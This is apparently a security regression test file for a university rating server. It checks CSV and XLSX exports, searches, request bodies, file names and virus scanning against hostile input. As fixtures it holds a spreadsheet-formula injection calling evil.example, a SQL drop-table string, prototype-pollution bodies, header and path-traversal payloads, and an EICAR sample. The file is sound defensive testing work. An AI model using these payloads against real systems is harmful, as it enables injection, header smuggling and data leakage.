import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { sql } from 'kysely'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { RouteDefinition } from '../contract/route.ts'
import { startTestClamd } from '../evidence/test-clamd.ts'
import { loadListedPlugins } from '../plugins/plugin-list.ts'
import { publishExample } from '../publication/example-publication.ts'
import { coreRoutes } from './index.ts'
import { createRatedUniversity } from './rated-university.example.ts'
import type { Account, RatedUniversity } from './rated-university.example.ts'
import { sessionRoutes } from './session/index.ts'

/** What docs/security.md lists and no narrower test tries; each against the whole server with all plugins. */
let there: RatedUniversity
let runs: { before: number; run: number }
let outlook: number
const evil = `=HYPERLINK("http://evil.example/?x","x")`
beforeAll(async () => {
  there = await createRatedUniversity({
    id: '15',
    title: { kk: 'x', ru: 'x', en: 'x' },
    days: 20,
    answeredBy: { kk: 'x', ru: 'x', en: 'x' },
    answerDays: 3,
  })
  const { db } = there.server.database
  await sql`update core.teacher set family_name = ${evil}, latin_name = '@SUM(1)', code = '=1+1' where id = ${there.university.teachers.marat}`.execute(
    db,
  )
  await sql`update core.unit set name = jsonb_build_object('kk', ${evil}::text, 'ru', ${evil}::text, 'en', ${evil}::text)`.execute(
    db,
  )
  await there.enter('marat', evil)
  const before = await there.rate()
  await there.enter('marat', evil)
  runs = { before: before.id, run: (await there.rate()).id }
  for (const id of Object.values(runs))
    await publishExample(db, id, { appealsUntil: '2026-07-20', answerDays: 3 })
  await foretell(runs.run)
  await there.answer(`/runs/${runs.before}/shadow`, {
    method: 'POST',
    payload: formOf('code,place,league\n=1+1,1,"@SUM(1)"\n-1+1,2,"=1"\n', { dryRun: 'false' }),
  })
}, 90_000)
afterAll(async () => {
  await there.server.close()
})

/** What is forecast of the teacher with the evil name. */
async function foretell(run: number): Promise<void> {
  const { db } = there.server.database
  const { rows } = await sql<{ id: number }>`
    insert into plugin_forecast.outlook (run_id, regulation_code, made_at, periods, horizon, backend, seed, seconds)
    values (${run}, 'example', now(), '[{"from": "2025-09-01", "to": "2026-08-31", "runId": 1}]', 1, 'cpu', 1, 1) returning id`.execute(
    db,
  )
  outlook = rows[0]!.id
  await sql`insert into plugin_forecast.outlook_measure (outlook_id, measure, place) values (${outlook}, 'total', 0)`.execute(
    db,
  )
  await sql`insert into plugin_forecast.outlook_subject (outlook_id, measure, kind, subject_id, unit_id, past, periods, basis, mean,
      lower80, upper80, lower95, upper95, change)
    values (${outlook}, 'total', 'department', ${there.university.units.computing}, null, '{15}', 1, 'unit', '{16}',
      '{12}', '{20}', '{10}', '{22}', 1)`.execute(db)
}

function formOf(content: string | Buffer, fields: Record<string, string> = {}, name = 'table.csv'): FormData {
  const form = new FormData()
  for (const [key, value] of Object.entries(fields)) form.append(key, value)
  form.append('file', new Blob([new Uint8Array(Buffer.from(content))]), name)
  return form
}

interface Named {
  /** Path below /api. */
  path: string
  route: RouteDefinition
}
async function allRoutes(): Promise<Named[]> {
  const plugins = (await loadListedPlugins()).flatMap(({ definition }) => definition ?? [])
  return [
    ...[...coreRoutes, ...sessionRoutes].map(({ route }) => ({ path: route.path, route })),
    ...plugins.flatMap(({ id, routes = [] }) =>
      routes.map(({ route }) => ({ path: `/plugins/${id}${route.path}`, route })),
    ),
  ]
}

describe('a table that is exported', () => {
  const addresses: Record<string, string> = {
    '/people/imports/:kind/template': '/people/imports/teachers/template',
    '/runs/:id/ranking/export': '/runs/RUN/ranking/export',
    '/runs/:id/compare/:other/teachers/export': '/runs/RUN/compare/BEFORE/teachers/export',
    '/runs/:id/shadow/teachers/export': '/runs/BEFORE/shadow/teachers/export',
    '/shadow/template': '/shadow/template',
    '/privacy/register/export': '/privacy/register/export',
    '/plugins/forecast/outlooks/:id/export': '/plugins/forecast/outlooks/OUTLOOK/export',
    '/plugins/surveys/groups/template': '/plugins/surveys/groups/template',
    '/plugins/teaching/imports/:kind/template': '/plugins/teaching/imports/courses/template',
  }
  const exporting = async () =>
    (await allRoutes()).filter(({ route }) => route.produces?.includes('text/csv'))
  const computes = (cell: string) => /^\s*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell)
  const fill = (path: string) =>
    path
      .replace('RUN', String(runs.run))
      .replace('BEFORE', String(runs.before))
      .replace('OUTLOOK', `${outlook}`)

  test('is known here, every one', async () => {
    expect((await exporting()).map(({ path }) => path).sort()).toEqual(Object.keys(addresses).sort())
  })

  test.each(Object.values(addresses))(
    '%s: no cell of the CSV is a formula, whatever was entered',
    async (path) => {
      const file = await there.answer(`${fill(path)}?format=csv`)
      expect(file.statusCode, file.body).toBe(200)
      const delimiter = file.body.split('\n', 1)[0]!.includes(';') ? ';' : ','
      const cells: string[][] = parse(file.body, { bom: true, delimiter, relax_column_count: true })
      expect(cells.flat().filter(computes)).toEqual([])
    },
  )

  test.each(Object.values(addresses))('%s: the XLSX holds no formula', async (path) => {
    const file = await there.answer(`${fill(path)}?format=xlsx`)
    const parts = unzipSync(new Uint8Array(file.rawPayload))
    const sheets = Object.entries(parts).filter(([name]) => name.startsWith('xl/worksheets/sheet'))
    expect(sheets.length).toBeGreaterThan(0)
    for (const [, sheet] of sheets) expect(strFromU8(sheet)).not.toMatch(/<f[ >]/)
  })

  test('and the attack was in those with names', async () => {
    for (const path of [
      '/runs/RUN/ranking/export',
      '/runs/RUN/compare/BEFORE/teachers/export',
      '/runs/BEFORE/shadow/teachers/export',
    ])
      expect((await there.answer(`${fill(path)}?format=csv`)).body, path).toMatch(/'(=HYPERLINK|=1\+1|@SUM)/)
  })
})

describe('a search', () => {
  const fields = ['search', 'title', 'name', 'q']
  const searching = async () =>
    (await allRoutes()).flatMap(({ path, route }) => {
      const field = fields.find((name) => name in (route.query?.shape ?? {}))
      return field && route.method === 'GET' && !route.produces ? [{ path, field, action: route.action }] : []
    })
  const whoFor = (action: string): Account =>
    action.startsWith('account.') || action.startsWith('device.') ? 'administrator' : 'office'
  const queries: Record<string, string> = { '/plugins/teaching/results': 'year=2025&' }
  async function ask(path: string, field: string, action: string, text: string) {
    const appeal = path.startsWith('/appeals/') ? await fileAppeal() : 0
    const address = path
      .replace('/runs/:id', `/runs/${runs.run}`)
      .replace(':other', String(runs.before))
      .replace('/appeals/:id', `/appeals/${appeal}`)
    return await there.answer(`${address}?${queries[path] ?? ''}${field}=${encodeURIComponent(text)}`, {
      as: whoFor(action),
    })
  }

  test('takes the signs of LIKE as they are, and no search ends in a fault of the server', async () => {
    const found = await searching()
    expect(found.length).toBeGreaterThan(8)
    for (const { path, field, action } of found) {
      for (const text of [
        '%%%',
        '___',
        '\\\\\\',
        "'; drop table core.teacher; --",
        'a\0b',
        '\ud800',
        'ё'.repeat(80),
      ]) {
        const response = await ask(path, field, action, text.toWellFormed())
        expect([200, 400], `${path} ${JSON.stringify(text)}: ${response.body.slice(0, 300)}`).toContain(
          response.statusCode,
        )
        if (response.statusCode === 200)
          expect(response.json<{ items: unknown[] }>().items, `${path} ${text}`).toEqual([])
      }
    }
  })

  test('nor does a text that PostgreSQL cannot keep, wherever it is written', async () => {
    const reason = 'a\0b'
    for (const [path, payload] of [
      [`/runs/${runs.run}/publication/withdrawal`, { reason }],
      [`/appeals/${await fileAppeal()}/withdrawal`, { reason }],
      ['/settings/table-by-name', { isOn: true, reason }],
    ] as const) {
      const as = path.startsWith('/appeals') ? 'marat' : 'management'
      const refused = await there.answer(path, { method: 'POST', as, payload })
      expect([refused.statusCode, refused.json<{ code: string }>().code], path).toEqual([
        400,
        'text-unstorable',
      ])
    }
  })

  let appealId: number | null = null
  async function fileAppeal(): Promise<number> {
    const payload = { subject: 'line', lineNo: 1, reason: 'x' }
    appealId ??= (
      await there.ask<{ id: number }>(`/runs/${runs.run}/appeals`, { method: 'POST', as: 'marat', payload })
    ).id
    return appealId
  }
})

describe('a body', () => {
  const send = async (payload: string | Buffer, type = 'application/json', url = '/evidence') =>
    await there.server.app.inject({
      method: 'POST',
      url: `/api${url}`,
      headers: {
        'x-ustaz-account': String(there.university.accounts.aigul),
        'content-type': type,
        'accept-language': 'en',
      },
      payload,
    })
  const codeOf = (response: Awaited<ReturnType<typeof send>>) => response.json<{ code: string }>().code

  test.each([
    ['{"__proto__": {"polluted": true}}'],
    ['{"indicator": "methodical.mooc", "data": {"__proto__": {"polluted": true}}}'],
    ['{"constructor": {"prototype": {"polluted": true}}}'],
  ])('that reaches for the prototype is refused: %s', async (body) => {
    const response = await send(body)
    expect([response.statusCode, codeOf(response)]).toEqual([400, 'body-unreadable'])
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined()
  })

  test('in a form with a field named as the prototype sets nothing', async () => {
    const form = formOf('code,name\n', { ['__proto__']: 'x', constructor: 'x', dryRun: 'true' })
    const response = await there.answer('/people/imports/units', { method: 'POST', payload: form })
    expect(response.statusCode).toBeLessThan(500)
    expect(Object.keys(Object.prototype)).toEqual([])
    expect({}.constructor).toBe(Object)
  })

  test('of more than 2 MB is cut off, and one that is no JSON is refused', async () => {
    const large = await send(JSON.stringify({ indicator: 'x'.repeat(2 * 1024 * 1024) }))
    expect([large.statusCode, codeOf(large)]).toEqual([413, 'body-too-large'])
    for (const [body, type] of [
      ['{', 'application/json'],
      ['<a/>', 'application/xml'],
    ] as const)
      expect([400, 415]).toContain((await send(body, type)).statusCode)
    const deep = await send(`{"data":${'['.repeat(100_000)}${']'.repeat(100_000)}}`)
    expect(deep.statusCode).toBe(400)
  })

  test('of a form with more fields or longer ones than any form has is refused', async () => {
    const many = Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`f${i}`, 'x']))
    const long = { dryRun: 'x'.repeat(65 * 1024) }
    for (const fields of [many, long]) {
      const response = await there.answer('/people/imports/units', {
        method: 'POST',
        payload: formOf('a', fields),
      })
      expect([400, 413], response.body).toContain(response.statusCode)
    }
  })
})

describe('a file name', () => {
  test('with line breaks, quotes or a path becomes a header that says one name', async () => {
    const enter = { subject: 'standing', clause: 'N', reason: 'x' }
    const { id } = await there.ask<{ id: number }>(`/runs/${runs.run}/appeals`, {
      method: 'POST',
      as: 'aigul',
      payload: enter,
    })
    const pdf = '%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n'
    const boundary = 'b'
    const name = '..\\..\\a";\\r\\nset-cookie: x=1;%0d%0ax: y.pdf'
    const sent = await there.server.app.inject({
      method: 'POST',
      url: `/api/appeals/${id}/files`,
      headers: {
        'x-ustaz-account': String(there.university.accounts.aigul),
        'content-type': `multipart/form-data; boundary=${boundary}`,
      },
      payload: `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="${name.replaceAll('"', '%22')}"\r\ncontent-type: text/html\r\n\r\n${pdf}\r\n--${boundary}--\r\n`,
    })
    expect(sent.statusCode, sent.body).toBe(200)
    const [file] = sent.json<{ files: { id: number; name: string }[] }>().files
    expect(file!.name).not.toMatch(/[/\\\r\n"]/)
    const download = await there.answer(
      `/teachers/${there.university.teachers.aigul}/appeals/${id}/files/${file!.id}`,
      { as: 'aigul' },
    )
    expect(download.headers['set-cookie']).toBeUndefined()
    expect(download.headers['content-disposition']).toMatch(
      /^attachment; filename="[\w.-]+"; filename\*=UTF-8''[^\s"]+$/,
    )
    expect(download.headers['content-type']).toBe('application/octet-stream')
  })

  test.each(['..%2f..%2fetc%2fpasswd', '1%00', '1e3', '0x10', '-1', '1;drop', '1%2f..'])(
    'in an address of a download is an id or nothing: %s',
    async (id) => {
      for (const address of [`/evidence/${id}/files/1`, `/evidence/1/files/${id}`, `/runs/${id}/export`])
        expect([400, 404], address).toContain((await there.answer(address)).statusCode)
    },
  )
})

test('a file with a virus is kept out of appeals as it is of evidence', async () => {
  const clamd = await startTestClamd({ signature: 'EICAR' })
  const { config } = there.server.context
  there.server.context.config = { ...config, clamdUrl: clamd.address }
  try {
    const { id } = await there.ask<{ id: number }>(`/runs/${runs.run}/appeals`, {
      method: 'POST',
      as: 'elsewhere',
      payload: { subject: 'standing', clause: 'N', reason: 'x' },
    })
    const send = async (content: string) =>
      await there.answer(`/appeals/${id}/files`, {
        method: 'POST',
        as: 'elsewhere',
        payload: formOf(content, {}, 'letter.pdf'),
      })
    const infected = await send('%PDF-1.4\n1 0 obj\n<<EICAR>>\nendobj\ntrailer\n<<>>\n%%EOF\n')
    expect([infected.statusCode, infected.json<{ code: string }>().code]).toEqual([422, 'file-infected'])
    expect((await send('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n')).statusCode).toBe(200)
  } finally {
    there.server.context.config = config
    await clamd.close()
  }
})
